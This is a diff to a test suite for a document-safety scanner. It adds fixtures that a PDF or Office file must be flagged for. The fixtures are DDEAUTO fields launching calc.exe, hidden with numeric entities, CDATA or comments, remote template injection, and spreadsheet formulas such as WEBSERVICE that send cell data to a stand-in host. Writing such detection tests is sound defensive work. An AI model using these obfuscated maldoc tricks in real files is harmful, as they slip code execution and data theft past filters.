@@ -76,6 +76,12 @@ describe('a document that acts', () => {
     expect(await fateOf('a.pdf', content)).toBe('FILE_UNSAFE');
   });
 
+  it('is refused where its objects are packed as only newer readers unpack them, as a viewer finds them [T19]', async () => {
+    const content = opening(script, {}, { isNewlyPacked: true });
+
+    expect([await hasScript(content), await fateOf('a.pdf', content)]).toEqual([true, 'FILE_UNSAFE']);
+  });
+
   it.each([
     ['by what tells where they begin', ''],
     ['and behind a remark', '%9 0 obj<<\n'],
@@ -94,6 +100,27 @@ describe('a document that acts', () => {
       docx(related('attachedTemplate', 'https://example.com/a.dotm', 'TargetMode="External"')),
     ],
     ['a template, written with entities', docx(related('attachedTemplate', 'a.dotm', "TargetMode = '&#69;xternal'"))],
+    [
+      'a template, written with numbers that begin with noughts',
+      docx(
+        related(
+          'attached&#x0000000054;emplate',
+          '&#0000000104;ttp://example.com/a.dotm',
+          'TargetMode="&#x0000045;xternal"',
+        ),
+      ),
+    ],
+    ['a field that starts a program, with such a number', docx('', field('&#x0000000044;DEAUTO c:\\\\calc.exe'))],
+    ['a field that starts a program, as bare text', docx('', field('<![CDATA[ DDEAUTO c:\\\\calc.exe]]>'))],
+    ['a field that fetches a picture, cut by a remark', docx('', field('INCLUDE<!-- -->PICTURE "http://a.example"'))],
+    ['a field that fetches a picture, cut by a note', docx('', field('INCLUDE<?x y?>PICTURE "http://a.example"'))],
+    [
+      'a field whose begin is written with a number',
+      docx(
+        '',
+        `${field(' PAGE ')}${field(' DDE a ')}`.replaceAll('"begin"', '"&#98;egin"').replaceAll('"end"', '"&#101;nd"'),
+      ),
+    ],
     ['a picture from elsewhere', docx(related('image', 'https://example.com/a.png', 'TargetMode="External"'))],
     ['a picture on a shared folder', docx(related('image', '\\\\host\\a.png'))],
     ['an object from elsewhere', docx(related('oleObject', 'file:///c:/a.bin', 'TargetMode="External"'))],
@@ -133,6 +160,9 @@ describe('a document that acts', () => {
       'a.xlsx',
       xlsx(related('externalLinkPath', 'https://example.com/a.xlsx', 'TargetMode="External"')),
     ],
+    ...['WEBSERVICE("http://example.com/?"&amp;A2)', 'IMAGE("http://a.example")', 'RTD("a",,"b")'].map(
+      (formula) => ['a formula that fetches', 'a.xlsx', xlsx('', `<c r="A1"><f>_xlfn.${formula}</f></c>`)] as const,
+    ),
     ['a query', 'a.xlsx', xlsx(related('queryTable', '../queryTables/a.xml'))],
     ['macros of before Visual Basic', 'a.xls', compound({ '/Workbook': record(0x85, [0, 0, 0, 0, 0, 1, 1, 0, 65]) })],
     ['cells of another program', 'a.xls', compound({ '/Workbook': record(0x1ae, [1, 0, 5, 0, 0, 99, 109, 100]) })],
@@ -146,6 +176,11 @@ describe('a document that acts', () => {
       'a field that starts a program',
       'a.doc',
       compound({ '/WordDocument': Buffer.from('\u0013 DDEAUTO c:\\calc.exe \u0014') }),
+    ],
+    [
+      'a template from the web, whatever it is called',
+      'a.doc',
+      compound({ '/WordDocument': Buffer.alloc(9), '/1Table': Buffer.from('http://a.example/t.php?a=1\0', 'utf16le') }),
     ],
     [
       'a template from elsewhere',
@@ -242,6 +277,7 @@ describe('a document that does not act', () => {
         field(' PAGE '),
       ),
     ],
+    ['a sheet with sums', 'a.xlsx', xlsx('', '<c r="A1"><f>SUM(A2,IMAGES!A1)</f></c>')],
     ['a sheet', 'a.xlsx', xlsx(related('hyperlink', 'mailto:a@example.com', 'TargetMode="External"'))],
     [
       'a letter of before 2007',
